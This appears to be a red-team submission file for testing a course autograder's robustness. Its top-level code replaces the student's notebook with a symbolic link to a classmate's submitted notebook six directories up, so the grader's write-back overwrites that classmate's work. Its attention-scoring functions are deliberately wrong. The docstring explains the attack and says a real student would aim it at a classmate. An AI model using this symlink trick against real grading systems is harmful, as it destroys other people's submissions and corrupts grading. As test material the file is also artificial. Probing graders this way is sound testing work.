"""Makes the grader overwrite another student's submission, through a symbolic link.

All seven functions are wrong. The kernel can write only into its own notebook folder, but
the grader writes the graded notebook back into that folder after the kernel is gone, under
the notebook's own name. The top-level code replaces `attention-scoring.ipynb` by a symbolic
link to a classmate's submitted notebook, `<course>/submitted/<classmate>/<assignment>/…`,
relative to the folder (on the grader's side the folder is
`<course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<student>/<assignment>`,
a layout the grader's own error messages print: the course is six levels up). If the grader
writes through the link before the classmate is graded, the classmate is graded on this
notebook (wrong functions) instead of their own; afterwards, their stored submission is
replaced for every re-grade.

The classmate is one of the honest submissions graded in the same batch by the test suite
(`honest-correct-straightforward-py`); a real student would use a classmate's id.
"""

import os
from pathlib import Path

import torch

MAX_EARNED = 0

_VICTIM = "honest-correct-straightforward-py"
_here = Path.cwd()
_notebook = next((p.name for p in sorted(_here.glob("*.ipynb"))), "attention-scoring.ipynb")
_assignment = Path(_notebook).stem
# the folder is <course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<s>/<a> on
# the grader's side (the kernel sees it as /submission; a relative link resolves either way)
_target = "../" * 6 + f"submitted/{_VICTIM}/{_assignment}/{_notebook}"
try:
    os.unlink(_notebook)
except OSError:
    pass
os.symlink(_target, _notebook)
print(f"{_notebook} -> {_target}")


def dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) + 2.0


def scaled_dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) / keys.shape[1] ** 0.5  # sqrt(n), not sqrt(d_k)


def general_score(query, keys, W):
    return (keys * (query @ W).unsqueeze(1)).sum(-1) * 0.5


def concat_score(query, keys, W, v):
    expanded = query.unsqueeze(1).expand(-1, keys.shape[1], -1)
    return torch.tanh(torch.cat([keys, expanded], dim=-1) @ W.T) @ v  # key first


def additive_score(query, keys, W_q, W_k, v):
    return torch.tanh(keys @ W_k.T) @ v  # the query is forgotten


def masked_softmax(scores, mask=None):
    weights = torch.softmax(scores, dim=-1) * 0.99
    return weights if mask is None else weights * mask  # not renormalised


def attend(query, keys, values=None, score=None, mask=None):
    if values is None:
        values = keys
    weights = torch.ones(keys.shape[:2], dtype=keys.dtype) / keys.shape[1]
    return values.mean(dim=1), weights
